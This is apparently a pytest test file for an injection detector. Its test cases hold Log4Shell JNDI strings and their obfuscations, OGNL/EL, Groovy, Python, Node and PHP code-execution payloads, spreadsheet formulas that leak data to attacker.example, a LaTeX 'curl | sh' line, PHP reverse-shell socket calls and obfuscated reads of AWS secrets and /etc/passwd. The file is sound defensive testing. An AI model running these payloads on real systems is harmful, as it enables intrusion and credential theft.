"""Code injection detector: Log4Shell and its obfuscations, Java EL/OGNL, Python, Node.js, PHP, eval."""

from __future__ import annotations

import random
import re

import pytest
from family_cases import corpus_lines, family_suite, handwritten

from hullguard.firewall.detectors import code
from hullguard.firewall.detectors.base import ScanContext
from hullguard.firewall.detectors.code_log4j import find_lookup

CTX = ScanContext()


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("${jndi:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${lower:j}ndi:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}", "HG-CODE-001"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "HG-CODE-002"),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", "HG-CODE-003"),
        ("%{(#_memberAccess['allowStaticMethodAccess']=true)}", "HG-CODE-003"),
        ("__import__('os').system('id')", "HG-CODE-004"),
        ("().__class__.__base__.__subclasses__()", "HG-CODE-004"),
        ("require('child_process').exec('id')", "HG-CODE-005"),
        ("process.mainModule.require('fs')", "HG-CODE-005"),
        ("<?php system($_GET['c']); ?>", "HG-CODE-006"),
        ("phpinfo()", "HG-CODE-006"),
        ("eval(atob('YWxlcnQoMSk='))", "HG-CODE-007"),
        # OGNL names a class between "@"s: no call, index or lookup needed to pass the prefilter
        ("@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "HG-CODE-003"),
        ("@java.lang.Runtime@getRuntime", "HG-CODE-003"),
        ("=cmd|' /C calc'!A0", "HG-CODE-008"),
        ('=DDE("cmd";"/C calc";"!A0")', "HG-CODE-008"),
        ("phpversion();", "HG-CODE-006"),
        # a PHP reverse shell connects back first
        ('$sock=fsockopen("198.51.100.7",4444);', "HG-CODE-006"),
        ("pfsockopen('attacker.example', 443)", "HG-CODE-006"),
        ('stream_socket_client("tcp://198.51.100.7:4444")', "HG-CODE-006"),
        ("@SUM(1+1)*cmd|' /C notepad'!'A1'", "HG-CODE-008"),
        ('=HYPERLINK("https://attacker.example/?leak="&A2, "Details")', "HG-CODE-008"),
        ('"=IMPORTXML(CONCAT(""https://attacker.example/?v="", B3), ""//a"")"', "HG-CODE-008"),
        ("\\immediate\\write18{curl https://attacker.example/s | sh}", "HG-CODE-009"),
        ("\\write18{id > /tmp/o}", "HG-CODE-009"),
        # Groovy runs a string as a command line (Elasticsearch scripts, Jenkins' script console)
        ("def cmd = 'whoami'; def out = cmd.execute().text; out", "HG-CODE-003"),
        ('new Object(){ { "curl http://x.example/s".execute() } }', "HG-CODE-003"),
        # OGNL reaching the servlet objects through the action context, the class spelled in pieces
        ("${#r=#context.get('co'+'m.open'+'symphony.'+'xwo'+'rk2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
        # ThinkPHP 5's route into its own namespace, which calls any method it names
        ("/home/\\think\\Container/invokefunction", "HG-CODE-006"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = code.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


@pytest.mark.parametrize(
    ("text", "resolved"),
    [
        ("${${upper:j}ndi:x}", "${Jndi:x}"),
        ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}", "${jNDi:ldap://x}"),
        ("prefix ${jndi:dns://x", "${jndi:dns://x"),
    ],
)
def test_log4j_lookups_resolve_like_log4j(text: str, resolved: str) -> None:
    found = find_lookup(text)
    assert found is not None and found[0] == resolved


@pytest.mark.parametrize(
    "value", ["fsockopen() returns a resource", "see fsockopen (PHP manual)", "stream_socket_client()"]
)
def test_socket_functions_named_without_an_address_are_no_php_call(value: str) -> None:
    assert code.scan(value, CTX) is None


@pytest.mark.parametrize("value", ["$c0X(1bD#ns4Ir", "!$$sA(Aj+KU1W$", "L$tp$PFvS(3akT"])
def test_random_passwords_with_a_dollar_before_a_parenthesis_are_no_php_call(value: str) -> None:
    """Generated passwords (Faker's, with special characters) put "$name(" before random characters."""
    assert code.scan(value, CTX) is None


@pytest.mark.parametrize("value", ["$f('id')", "$$f('id')", "$f(1)", "$x(1, 2)", "$f()", "$f /*c*/ ('id')"])
def test_php_calls_through_a_variable_with_an_argument_list_are_reported(value: str) -> None:
    found = code.scan(value, CTX)
    assert found is not None and found.rule_id == "HG-CODE-006", found


def test_placeholders_are_not_lookups() -> None:
    assert find_lookup("https://tr.example.com/cm/p?pcid=${TA_DEVICE_ID}&x=${USER}") is None
    assert find_lookup("${greeting:-Hello} ${lower:WORLD}, see the jndi docs") is None  # no "jndi:" spelled


@pytest.mark.parametrize(
    "fragment", ["${:a:d:-${lower:j}n}di:", "${lower:${:a:d:-${lower:}}jndi:}", "x ${::-j}${::-n}di:ldap://h/a"]
)
def test_lookups_that_spell_jndi_into_the_text_around_them_are_reported(fragment: str) -> None:
    """Filter-bypass fragments whose lookups resolve to "jndi:" outside any "${": wrapped in one more
    lookup they are Log4Shell; no template spells that word with lookups."""
    found = code.scan(fragment, CTX)
    assert found is not None and found.rule_id == "HG-CODE-001", found


def test_deep_nesting_is_bounded() -> None:
    text = "${" * 50_000 + "jndi:ldap://x" + "}" * 50_000
    code.scan(text, CTX)  # bounded stack: completes whatever it decides


def test_one_search_for_all_gates_finds_a_gate_exactly_when_a_rule_has_one() -> None:
    """``scan`` returns early when ``_ANY_GATE`` finds no gate; that must happen exactly when no rule
    would run, on random mixes of gates, their parts, header pieces and on the corpus."""
    gates = sorted({gate for check in code._CHECKS for gate in check[1]})
    pieces = [*gates, *(gate[:-1] for gate in gates), *(gate[1:] for gate in gates), "Mozilla/5.0", "(Windows",
              "Mac OS X)", "KHTML,", "jane.oneil@example.com", " ", "(", ".", "_", "$", "{", "#", "%", "SubProcess"]
    rng = random.Random(23)
    mixes = ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 5))) for _ in range(20000)]
    texts = mixes + [line for _name, line in corpus_lines("code")] + handwritten("code", "attacks")
    for text in texts:
        low = text.lower()
        some_rule_runs = any(gate in low for check in code._CHECKS for gate in check[1])
        assert (code._ANY_GATE.search(low) is not None) == some_rule_runs, text
    chrome = "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/120.0.0.0"
    assert code._ANY_GATE.search(chrome) is None
    assert code._ANY_GATE.search("jane.oneil@example.com") is None


def test_rule_patterns_match_exactly_as_written_with_word_boundaries() -> None:
    """``_compile_rule`` respells ``\\bx`` as ``x(?<!\\wx)``; each rule finds the same first match as
    the pattern written with ``\\b``, also next to digits, underscores and non-ASCII letters."""
    pieces = ["os", ".", "system", "(", "'id'", "x", "_", "1", "é", " ", "\t", "t", "java.", "pickle", "loads",
              "sys", "modules", "pty", "spawn", "socket", "vm", "runinthiscontext", "function", "return", "this",
              "phpinfo", "()", "eval", "exec", "mac os x", "ios", "__import__", "{", "}", "process"]
    rng = random.Random(29)
    mixes = ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 6))) for _ in range(20000)]
    texts = mixes + [line.lower() for _name, line in corpus_lines("code")] + handwritten("code", "attacks")
    for compiled in (code._JAVA, code._PYTHON, code._NODE, code._PHP, code._EVAL):
        written = re.compile(re.sub(r"([a-z])\(\?<!\\w\1\)", r"\\b\1", compiled.pattern.pattern))
        assert "(?<!" not in written.pattern
        for text in texts:
            mine, theirs = compiled.search(text), written.search(text)
            assert (mine and mine.span()) == (theirs and theirs.span()), (compiled.pattern.pattern[:40], text)
    assert code._PYTHON.search("mac os x") is None and code._PYTHON.search("os.system('id')") is not None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(code, "code", ["${", "${${lower:j}", "}", "${::-", "__import__(", "require(", "<?php", "eval("])


@pytest.mark.parametrize("value", ["jane.oneil@example.com", "@team-payments", "user+tag@mail.example.org"])
def test_an_at_sign_alone_does_not_reach_the_rules(value: str) -> None:
    # e-mail addresses and handles are in most JSON bodies; OGNL's "@" is always "@java." or "@ognl."
    assert code._PREFILTER.search(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "+1 (555) 010-2000",
        "-42.5",
        "=SUM(A1:A3)",
        "DDE (Dynamic Data Exchange) links",
        "@alice (on call)",
        "photo image(2).png",
        "a|'b'",
        "x | 'y'!",
    ],
)
def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
    # Phone numbers, negative amounts, handles and plain sums begin with a formula sign; only a DDE
    # call (app|'topic'!) or a formula that reaches the network is reported.
    assert code.scan(value, CTX) is None


@pytest.mark.parametrize(
    "value", ["cursor.execute()", 'conn.execute("select 1")', "def total = price * qty", "a\\b\\think"]
)
def test_calls_named_execute_on_names_and_backslashed_words_are_no_code(value: str) -> None:
    assert code.scan(value, CTX) is None


def test_a_drupal_render_callback_key_is_reported_only_as_a_key() -> None:
    assert code.scan("#post_render", ScanContext(is_key=True)) is not None
    assert code.scan("#lazy_builder", ScanContext(is_key=True)) is not None
    assert code.scan("#process", ScanContext()) is None  # a hashtag in a value
    assert code.scan("#products", ScanContext(is_key=True)) is None


# Each read the function's environment or a file, or ran a command, in the engine named: Node's eval,
# new Function and vm, Mako and Python's eval/exec, PHP's eval (php -r).
@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("process?.env?.AWS_SECRET_ACCESS_KEY", "HG-CODE-005"),  # optional chaining
        ("with(process) return env.AWS_SECRET_ACCESS_KEY", "HG-CODE-005"),
        ("(({env})=>env.AWS_SECRET_ACCESS_KEY)(process)", "HG-CODE-005"),
        ("return globalThis['process'].env.AWS_SECRET_ACCESS_KEY", "HG-CODE-005"),
        ("require('f'+'s').readFileSync('/proc/self/en'+'viron','utf8')", "HG-CODE-005"),
        ("Function('return process')().env", "HG-CODE-007"),
        ("(0,eval)(atob(payload))", "HG-CODE-007"),
        ("from os import environ as e; print(e['AWS_SECRET_ACCESS_KEY'])", "HG-CODE-004"),
        ("import os as o; print(o.environ['AWS_SECRET_ACCESS_KEY'])", "HG-CODE-004"),
        ("${open('/etc' '/passwd').read()}", "HG-CODE-004"),  # a path in pieces
        ("echo getenv('AWS_SECRET_ACCESS_KEY');", "HG-CODE-006"),
        ("print_r(getenv());", "HG-CODE-006"),
        ("system(strrev('di'));", "HG-CODE-006"),
        ("array_map('system',['id']);", "HG-CODE-006"),
        ("echo ${'_SERVER'}['AWS_SECRET_ACCESS_KEY'];", "HG-CODE-006"),
        ("Reflect.get(globalThis,'ssecorp'.split('').reverse().join('')).env.X", "HG-CODE-005"),  # built names
        ("require(String.fromCharCode(102,115)).readFileSync('x')", "HG-CODE-005"),
        ("process.getBuiltinModule('fs').readFileSync('/etc/pa'+'sswd','utf8')", "HG-CODE-005"),
        ("Function(atob('cmV0dXJuIHByb2Nlc3M='))().env", "HG-CODE-007"),
        ("${open('/etc/passXwd'.replace(chr(88),'')).read()}", "HG-CODE-004"),
        ("open(bytes.fromhex('2f6574632f706173737764').decode()).read()", "HG-CODE-004"),
        ("import code; code.InteractiveInterpreter().runsource(src)", "HG-CODE-004"),
        ("echo getenv(hex2bin('48475f43414e415259'));", "HG-CODE-006"),
        ("(({env}=process)=>env.AWS_SECRET_ACCESS_KEY)()", "HG-CODE-005"),  # process handed on as a value
        ("Reflect.get(process,'env').AWS_SECRET_ACCESS_KEY", "HG-CODE-005"),
        ("process['e'.concat('nv')].AWS_SECRET_ACCESS_KEY", "HG-CODE-005"),
        ("require('child_'.concat('process'))['execSync']('id')", "HG-CODE-005"),
        ("open('dwssap/cte/'[::-1]).read()", "HG-CODE-004"),
        ("import posix;print(posix.environ)", "HG-CODE-004"),
        ("import os;print(getattr(os,'env'+'iron'))", "HG-CODE-004"),
        ("print_r($_SERVER);", "HG-CODE-006"),
        ("array_map('sys'.'tem',['i'.'d']);", "HG-CODE-006"),
    ],
)
def test_engine_evasions_that_really_ran(payload: str, rule_id: str) -> None:
    found = code.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, (payload, found)


@pytest.mark.parametrize(
    "value",
    ["with open('data.csv') as f: rows = f.read()", "open('report.pdf')", "from os import path",
     "getenv('HOME') returns null", "Process with care (see the env docs)", "Please open('x') the file",
     "open the door", "const {env}=config;", "array_map('trim',$lines);", "print_r($data);",
     "We improved our (process) today", "open(f'/tmp/{name}.txt').read()", "open('out_{}.csv'.format(i), 'w')",
     "$host = getenv('DB_HOST');", "Why is getenv() empty in PHP-FPM?", "return Reflect.get(this, key)",
     "open(''.join(parts))"],
)
def test_code_in_prose_near_those_stays_data(value: str) -> None:
    assert code.scan(value, CTX) is None, value
